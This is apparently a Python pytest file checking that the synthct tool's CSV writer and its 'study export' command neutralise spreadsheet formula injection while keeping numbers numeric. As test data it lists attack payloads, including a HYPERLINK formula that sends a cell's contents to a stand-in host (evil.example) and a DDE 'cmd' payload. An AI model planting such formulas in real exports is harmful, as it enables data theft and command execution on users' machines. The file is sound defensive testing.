"""CSV formula injection: every CSV synthct writes for people neutralises text cells that a
spreadsheet would run as a formula (= + - @ tab CR), while numbers stay numbers. Checked on the
helper, on `synthct study export` (real entry point) and, in tests/app, on the app's download."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from synthct.csvsafe import FORMULA_STARTS, csv_text, neutralise_cell, to_csv_text

SYNTHCT = shutil.which("synthct", path=str(Path(sys.executable).parent)) or shutil.which("synthct")

# What an attacker (a rater's name or comment) would try, one per dangerous first character.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1,1)",  # full-width '='
    "  =1+1",  # leading spaces
]


@pytest.mark.parametrize("text", ATTACKS)
def test_dangerous_text_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-0.5, -3, 0, 1e-4, "-0.5", "+3", "1e-4", "-12.5e3", "Dr A", "", None, "a=b", "x-1"]
)
def test_numbers_and_ordinary_text_are_untouched(value):
    assert neutralise_cell(value) == value


def test_frames_keep_numeric_columns_numeric():
    df = pd.DataFrame(
        {"rater": ["=cmd|' /C calc'!A0", "Dr B"], "score": [-1, 7], "delta": [-0.25, 1.5]}
    )
    text = to_csv_text(df)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["rater", "score", "delta"]
    assert rows[1] == ["'=cmd|' /C calc'!A0", "-1", "-0.25"]  # numbers are written as numbers
    assert rows[2] == ["Dr B", "7", "1.5"]
    assert df.loc[0, "rater"].startswith("=")  # the caller's frame is not modified
    assert csv_text([["=1", -2, "-2"]], header=["@h", "b", "c"]) == "'@h,b,c\n'=1,-2,-2\n"


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would evaluate: none starts (after spaces) with a formula
    character unless it is a plain number."""
    for row in rows:
        for cell in row:
            assert neutralise_cell(cell) == cell or cell.startswith("'"), (cell, row)
            head = cell.lstrip(" ")[:1]
            assert head not in FORMULA_STARTS or neutralise_cell(cell) == cell, cell


def rated_study(ws, attacks=ATTACKS):
    """A sealed study (3 real + 3 synthetic) whose raters are named after `attacks` and leave
    them as comments; returns {rater name: [comments]} as stored (names/comments stripped)."""
    from db.session import database_url, make_engine, session_scope
    from synthct.vtt import flow
    from tests.app.helpers import make_study

    engine = make_engine(database_url(ws.database))
    names = [a.strip() or a for a in attacks[:4]] + ["Dr Plain"]
    tokens = make_study(ws, engine, name="inj", n=3, raters=names)
    given: dict[str, list[str]] = {}
    with session_scope(engine) as s:
        for k, (name, token) in enumerate(tokens.items()):
            rater = flow.rater_for_token(s, token)
            i = 0
            while (case := flow.next_case(s, rater)) is not None:
                comment = attacks[(k + i) % len(attacks)]
                flow.submit(s, rater, case.public_id, (i % 11), comment=comment)
                given.setdefault(name, []).append(comment.strip())
                i += 1
    engine.dispose()
    return given


def test_study_export_neutralises_every_dangerous_prefix(workspace, tmp_path):
    given = rated_study(workspace)
    res = subprocess.run(
        [SYNTHCT, "study", "export", "inj", "--out", "exports/inj.csv", "-w", str(workspace.root)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert res.returncode == 0, res.stderr
    text = (workspace.root / "exports" / "inj.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert_no_formula_cells(rows)
    table = [dict(zip(header, r, strict=True)) for r in body]
    assert len(table) == 5 * 6
    seen_comments = set()
    for r in table:
        name = r["rater"][1:] if r["rater"].startswith("'") else r["rater"]
        assert name in given
        assert r["rater"] == neutralise_cell(name)
        assert r["rater"].startswith("'") == (name != "Dr Plain")
        assert r["comment"].startswith("'") and r["comment"][1:] in given[name]
        seen_comments.add(r["comment"][1:])
        assert r["score"].isdigit() and 0 <= int(r["score"]) <= 10  # still a number
        float(r["duration_s"])
    assert seen_comments == {a.strip() for a in ATTACKS}  # every prefix went through export
